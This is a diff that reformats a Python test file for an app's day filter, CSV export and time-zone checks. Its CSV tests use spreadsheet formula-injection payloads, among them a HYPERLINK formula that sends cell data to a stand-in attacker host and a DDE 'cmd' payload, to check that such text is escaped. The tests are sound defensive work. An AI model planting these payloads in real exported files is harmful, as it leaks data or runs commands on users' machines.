@@ -96,17 +96,20 @@ def test_an_empty_text_is_left_out_of_the_url():
     assert app(text, word="abcde").query_params == {}
 
 
-@pytest.mark.parametrize("query, picked", [
-    ({}, (SUN, MON)),  # the newest two
-    ({"from": "2026-10-23"}, (FRI, MON)),
-    ({"from": "2026-10-23", "to": "2026-10-24"}, (FRI, SAT)),
-    ({"from": "20261024", "to": "2026-W43-6"}, (SAT, SAT)),
-    ({"from": "2026-10-26", "to": "2026-10-23"}, (MON, MON)),  # the last is not before the first
-    ({"from": "2026-10-22", "to": "2026-10-27"}, (SUN, MON)),  # there are no results
-    ({"from": "0001-01-01", "to": "9999-12-31"}, (SUN, MON)),
-    ({"from": "2026-02-30", "to": "tomorrow"}, (SUN, MON)),
-    ({"from": "2026-10-24T00:00", "to": "../2026-10-24"}, (SUN, MON)),
-])
+@pytest.mark.parametrize(
+    "query, picked",
+    [
+        ({}, (SUN, MON)),  # the newest two
+        ({"from": "2026-10-23"}, (FRI, MON)),
+        ({"from": "2026-10-23", "to": "2026-10-24"}, (FRI, SAT)),
+        ({"from": "20261024", "to": "2026-W43-6"}, (SAT, SAT)),
+        ({"from": "2026-10-26", "to": "2026-10-23"}, (MON, MON)),  # the last is not before the first
+        ({"from": "2026-10-22", "to": "2026-10-27"}, (SUN, MON)),  # there are no results
+        ({"from": "0001-01-01", "to": "9999-12-31"}, (SUN, MON)),
+        ({"from": "2026-02-30", "to": "tomorrow"}, (SUN, MON)),
+        ({"from": "2026-10-24T00:00", "to": "../2026-10-24"}, (SUN, MON)),
+    ],
+)
 def test_days(query, picked):
     test = app(days, **query)
     first, last = map(str, picked)
@@ -124,7 +127,23 @@ def test_a_day_that_is_picked_is_written_and_one_that_is_cleared_comes_back():
 
 # What is saved as CSV
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.invalid/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"])
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.invalid/"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠a",
+    ],
+)
 def test_a_text_that_looks_like_a_formula_is_saved_as_text(text):
     table = pd.DataFrame({text: [text, "plain"], "label": pd.Categorical([text, "x;=1"]), "any": [(text,), -1], "watts": [-1.5, 2]})
     saved = list(csv.reader(io.StringIO(to_csv(table), newline="")))
@@ -142,10 +161,17 @@ def test_an_answer_without_columns_and_one_with_the_same_name_twice():
     assert to_csv(pd.DataFrame([["=1", 2]], columns=["a", "a"])) == '"a","a"\n"\'=1",2\n'
 
 
-@pytest.mark.parametrize("now, zones, days", [
-    ("2026-11-28T00:10", ["America/New_York"], {27}), ("2026-11-28T04:59", ["America/New_York"], {27}), ("2026-11-28T05:00", ["America/New_York"], {28}),
-    ("2026-11-28T12:00", ["America/New_York", "Pacific/Kiritimati"], {28, 29}), ("2026-11-28T12:00", ["no zone"], {28}), ("2026-11-28T12:00", [], set()),
-])
+@pytest.mark.parametrize(
+    "now, zones, days",
+    [
+        ("2026-11-28T00:10", ["America/New_York"], {27}),
+        ("2026-11-28T04:59", ["America/New_York"], {27}),
+        ("2026-11-28T05:00", ["America/New_York"], {28}),
+        ("2026-11-28T12:00", ["America/New_York", "Pacific/Kiritimati"], {28, 29}),
+        ("2026-11-28T12:00", ["no zone"], {28}),
+        ("2026-11-28T12:00", [], set()),
+    ],
+)
 def test_today_is_the_day_at_the_houses(now, zones, days):
     moment = datetime.fromisoformat(now).replace(tzinfo=UTC)
     assert {day for day in range(26, 31) if is_today(date(2026, 11, day), zones, moment)} == days
